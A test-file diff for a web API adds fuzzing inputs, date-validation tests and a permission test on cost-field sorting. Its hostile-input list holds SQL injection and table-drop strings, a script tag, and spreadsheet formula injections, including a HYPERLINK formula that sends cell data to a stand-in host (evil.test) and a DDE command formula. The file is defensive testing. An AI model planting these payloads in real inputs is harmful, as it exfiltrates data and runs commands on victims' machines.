@@ -1,6 +1,7 @@
 import fc from 'fast-check';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { DEFAULT_POLICY } from '../../src/domain/policy.js';
+import { DEFAULT_POLICY, EVERYTHING, type Policy } from '../../src/domain/policy.js';
+import { COST_FIELDS } from '../../src/server/auth/cost-fields.js';
 import { createTestApp, type Reply, type TestApp } from '../support/test-app.js';
 
 /**
@@ -163,6 +164,10 @@ const hostile = fc.oneof(
   fc.constantFrom(
     ...NASTY, '\u0000', '\ud800', ' ', '', '-1', '1e309', 'NaN', '%00', '😀', '\u202e', '<script>alert(1)</script>',
     "' OR 1=1 --", "'; drop table users; --",
+    // Spreadsheet formulas (stored as typed; every CSV writes them as text: tests/unit/csv-cells.test.ts).
+    '=HYPERLINK("http://evil.test/?"&A1,"Open")', "=cmd|' /C calc'!A0", '+SUM(1)', '@SUM(1)',
+    // Days out of the calendar or the range (every date field: the test below).
+    '0000-01-01', '9999-12-31', '2026-02-30',
   ),
   // Node refuses a request line over 16 kB before any route runs: in a query a "huge" value is 8 kB.
   fc.constant(HUGE),
@@ -185,6 +190,40 @@ describe('arbitrary strings in every documented input', () => {
       for (const value of NASTY) checkReply(target, value, await send(target, value));
     }
   }, 300_000);
+
+  it('impossible and out-of-range days in every date field: a 400 naming the field', async () => {
+    const dated = targets.filter((x) => /(^|_)date$|^as_of$/.test(x.field));
+    expect(dated.map(nameOf).length).toBeGreaterThanOrEqual(8);
+    for (const target of dated) {
+      for (const value of ['0000-01-01', '9999-12-31', '2026-02-30', '1999-12-31', '2101-01-01', '2026-13-01']) {
+        const reply = await send(target, value);
+        checkReply(target, value, reply);
+        expect(reply.status, `${nameOf(target)} = ${value}`).toBe(400);
+        expect(reply.body.errors.map((e: { field: string }) => e.field), `${nameOf(target)} = ${value}`).toContain(target.field);
+      }
+    }
+  }, 120_000);
+
+  it('every documented sort by a cost field, from a role without costs: a 400 naming sort, on every route', async () => {
+    const probes: string[] = [];
+    for (const [path, ops] of Object.entries(doc.paths as Json)) {
+      const op = (ops as Json).get;
+      const sort = (op?.parameters as Json[] | undefined)?.find((p) => p.in === 'query' && p.name === 'sort');
+      const costs = ((sort?.schema?.enum ?? []) as string[]).filter((v) => COST_FIELDS.has(v));
+      if (path.includes('{') || !costs.length) continue;
+      for (const value of costs) probes.push(`${path}?sort=${value}`);
+    }
+    expect(probes.length).toBeGreaterThanOrEqual(4);
+    const policy: Policy = structuredClone(DEFAULT_POLICY);
+    policy.signIn['sub-admin'] = true;
+    policy.grants['sub-admin'] = Object.fromEntries(Object.entries(EVERYTHING).filter(([r]) => r !== 'costs' && r !== 'stock'));
+    expect((await t.request('PUT', '/api/permissions', { role: 'admin', body: policy })).status).toBe(200);
+    for (const url of probes) {
+      const res = await t.request('GET', url, { role: 'sub-admin' });
+      expect([res.status, res.body.errors?.[0]?.field], url).toEqual([400, 'sort']);
+    }
+    expect((await t.request('PUT', '/api/permissions', { role: 'admin', body: DEFAULT_POLICY })).status).toBe(200);
+  });
 
   it('random strings (100 kB, SQL, control and odd characters) in random fields (fast-check)', async () => {
     await fc.assert(
